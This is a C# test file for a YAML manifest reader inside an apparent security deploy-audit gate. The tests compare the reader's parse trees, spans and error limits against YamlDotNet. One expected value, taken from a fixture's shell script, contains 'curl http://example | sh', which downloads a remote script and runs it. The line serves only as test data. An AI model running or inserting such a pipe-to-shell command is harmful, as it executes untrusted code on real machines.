using MLSecOps.Core.Gates;
using MLSecOps.Gates.DeployAudit.Yaml;
using MLSecOps.TestKit;

namespace MLSecOps.Gates.DeployAudit.Tests.Yaml;

/// <summary>
/// The subset reader against YamlDotNet's event reader on real files (tests/fixtures/deploy-audit/yaml-reader, written by
/// its generate.py, and every deploy-audit fixture): where it reads a text itself, the trees must be the same, marks and
/// weights included; everything else it must leave to YamlDotNet.
/// </summary>
public sealed class ManifestYamlReaderTests
{
    private static readonly string s_root = Path.Combine(FixturePaths.Of("deploy-audit"), "yaml-reader");

    public static IEnumerable<string> SubsetFixtures() => Directory.EnumerateFiles(Path.Combine(s_root, "subset")).Select(Path.GetFileName).Order(StringComparer.Ordinal)!;

    public static IEnumerable<string> OutsideFixtures() => Directory.EnumerateFiles(Path.Combine(s_root, "outside")).Select(Path.GetFileName).Order(StringComparer.Ordinal)!;

    [TestCaseSource(nameof(SubsetFixtures))]
    public void TryRead_SubsetFixture_ReadsTheTreeYamlDotNetReads(string name)
    {
        var text = File.ReadAllText(Path.Combine(s_root, "subset", name));

        var subset = new ManifestYamlReader(YamlLimits.Default).TryRead(text);

        Assert.That(subset, Is.Not.Null, "the fixture is in the subset");
        Assert.That(Difference(subset!, new BoundedYamlReader(YamlLimits.Default).ReadWithParser(text)), Is.Null);
    }

    [TestCaseSource(nameof(OutsideFixtures))]
    public void TryRead_ConstructOutsideTheSubset_DeclinesAndReadGivesYamlDotNetsResult(string name)
    {
        var text = File.ReadAllText(Path.Combine(s_root, "outside", name));
        var reader = new BoundedYamlReader(YamlLimits.Default);

        Assert.That(new ManifestYamlReader(YamlLimits.Default).TryRead(text), Is.Null);
        var read = reader.Read(text);
        var parsed = reader.ReadWithParser(text);
        Assert.That((read.Error, Difference(read, parsed with { Error = read.Error })), Is.EqualTo((parsed.Error, (string?)null)));
    }

    [Test]
    public void TryRead_BlockFixture_KeepsMarksOfKeysValuesAndCollections()
    {
        var text = File.ReadAllText(Path.Combine(s_root, "subset", "block.yaml"));

        var root = (YMap)new ManifestYamlReader(YamlLimits.Default).TryRead(text)!.Documents[0].Root!;

        var metadata = root.Map("metadata")!;
        Assert.That(metadata.Scalar("name")!.Span, Is.EqualTo(new TextSpan(4, 9, 4, 12)), "a plain value ends before the spaces and comment");
        Assert.That(metadata.Map("labels")!.Scalar("quoted key")!.Value, Is.EqualTo("it's"));
        var container = (YMap)root.Map("spec")!.Map("template")!.Map("spec")!.Seq("containers")!.Items[0];
        var args = container.Seq("args")!;
        Assert.That(args.Span, Is.EqualTo(new TextSpan(15, 11, 18, 11)), "an indentless sequence ends at the next key");
        Assert.That(((YScalar)args.Items[1]).Span, Is.EqualTo(new TextSpan(16, 12, 16, 12)), "an empty entry is marked after its dash");
        Assert.That(((YScalar)args.Items[2]).Value, Is.EqualTo("escaped \"x\" \u00e9"));
        Assert.That(((YMap)container.Seq("env")!.Items[0]).Scalar("value")!.IsNull, Is.True);
    }

    [Test]
    public void TryRead_FlowAndBlockScalars_MarkAsYamlDotNetDoes()
    {
        var flow = (YMap)new ManifestYamlReader(YamlLimits.Default).TryRead(File.ReadAllText(Path.Combine(s_root, "subset", "flow.yaml")))!.Documents[0].Root!;
        var scalars = (YMap)new ManifestYamlReader(YamlLimits.Default).TryRead(File.ReadAllText(Path.Combine(s_root, "subset", "block-scalars.yaml")))!.Documents[0].Root!;

        // YamlDotNet ends a flow collection's mark at its closing bracket, not after it.
        Assert.That(flow.Map("spec")!.Map("selector")!.Span, Is.EqualTo(new TextSpan(5, 13, 5, 22)));
        var run = scalars.Map("data")!.Scalar("run.sh")!;
        Assert.That((run.IsBlock, run.Span, run.Value), Is.EqualTo((true, new TextSpan(6, 11, 12, 1), "#!/bin/sh\necho start\n\n  indented line\ncurl http://example | sh\n")));
        Assert.That(scalars.Map("data")!.Text("folded"), Is.EqualTo("folded text\nnew paragraph\n"));
        Assert.That(scalars.Map("data")!.Text("kept"), Is.EqualTo("keep\n\n"));
    }

    [Test]
    public void TryRead_EveryDeployAuditFixtureCutAndCorrupted_IsDeclinedOrReadExactlyAsYamlDotNetReadsIt()
    {
        var subset = new ManifestYamlReader(YamlLimits.Default);
        var parser = new BoundedYamlReader(YamlLimits.Default);
        var inserts = new[] { "[", "{", "\"", "'", "*x", "&a ", ":", ": ", "\t", "- ", "? ", "|", ">\n", "%", " ", "  ", "\n", "\n  ", "#", "---\n", "}", "]", ",", "\\" };
        var accepted = 0;
        foreach (var text in Directory.EnumerateFiles(FixturePaths.Of("deploy-audit"), "*.yaml", SearchOption.AllDirectories).Select(File.ReadAllText))
        {
            for (var cut = 0; cut <= text.Length; cut += Math.Max(1, text.Length / 20))
            {
                foreach (var variant in inserts.Select(i => text[..cut] + i + text[cut..]).Append(text[..cut]))
                {
                    if (subset.TryRead(variant) is { } read)
                    {
                        accepted++;
                        Assert.That(Difference(read, parser.ReadWithParser(variant)), Is.Null, variant);
                    }
                }
            }
        }

        Assert.That(accepted, Is.GreaterThan(10_000), "the subset reader must read most variants itself");
    }

    [Test]
    public void Read_NestingPastTheDepthLimit_IsALimitErrorFromYamlDotNet()
    {
        var text = string.Concat(Enumerable.Range(0, 120).Select(i => new string(' ', i * 2) + $"k{i}:\n")) + new string(' ', 240) + "leaf: 1\n";

        var result = new BoundedYamlReader(YamlLimits.Default).Read(text);

        Assert.That((result.Error?.Kind, result.Error?.Message), Is.EqualTo(((YamlErrorKind?)YamlErrorKind.Limit, (string?)"nesting deeper than 100")));
    }

    [Test]
    public void Read_MoreDocumentsThanTheLimit_KeepsTheFirstAndReportsTheLimit()
    {
        var text = string.Concat(Enumerable.Range(0, 8).Select(i => $"---\nkind: Pod\nmetadata:\n  name: p{i}\n"));

        var result = new BoundedYamlReader(new YamlLimits(MaxDocuments: 3)).Read(text);

        Assert.That((result.Documents.Count, result.Error?.Kind), Is.EqualTo((3, (YamlErrorKind?)YamlErrorKind.Limit)));
    }

    [Test]
    public async Task Audit_UnclosedFlowMappingInAManifest_IsMalformedYamlOnTheLineItOpens()
    {
        var full = Path.Combine(s_root, "outside", "unclosed-flow.yaml");
        var files = new[] { new ScanFile(full, "outside/unclosed-flow.yaml", new FileInfo(full).Length) };

        var findings = await GateHarness.RunAsync(new DeployAuditGate(), s_root, files);

        Assert.That(findings.Where(f => f.Rule.Id == "DEP001").Select(f => f.Location.StartLine), Is.EqualTo(new[] { 2 }));
    }

    /// <summary>Returns where two read results differ (documents, node types, values, styles, marks, weights), or null.</summary>
    private static string? Difference(YamlReadResult a, YamlReadResult b)
    {
        if (!Equals(a.Error, b.Error) || a.Documents.Count != b.Documents.Count)
        {
            return $"error {a.Error} vs {b.Error}, documents {a.Documents.Count} vs {b.Documents.Count}";
        }

        return a.Documents.Select((d, i) => Difference(d.Root, b.Documents[i].Root, $"document {i}")).FirstOrDefault(d => d is not null);
    }

    private static string? Difference(YNode? a, YNode? b, string path)
    {
        if (a is null || b is null)
        {
            return a == b ? null : $"{path}: one is null";
        }

        if (a.GetType() != b.GetType() || a.Span != b.Span || a.Weight != b.Weight)
        {
            return $"{path}: {a.GetType().Name} {a.Span} weight {a.Weight} vs {b.GetType().Name} {b.Span} weight {b.Weight}";
        }

        return (a, b) switch
        {
            (YScalar x, YScalar y) => (x.Value, x.IsPlain, x.IsBlock) == (y.Value, y.IsPlain, y.IsBlock) ? null : $"{path}: [{x.Value}] vs [{y.Value}]",
            (YSeq x, YSeq y) => x.Items.Count != y.Items.Count ? $"{path}: {x.Items.Count} vs {y.Items.Count} items"
                : x.Items.Select((item, i) => Difference(item, y.Items[i], $"{path}[{i}]")).FirstOrDefault(d => d is not null),
            (YMap x, YMap y) => x.Entries.Count != y.Entries.Count ? $"{path}: {x.Entries.Count} vs {y.Entries.Count} entries"
                : x.Entries.Select((e, i) => Difference(e.Key, y.Entries[i].Key, $"{path} key {i}") ?? Difference(e.Value, y.Entries[i].Value, $"{path}.{e.Key.Value}")).FirstOrDefault(d => d is not null),
            _ => null,
        };
    }
}
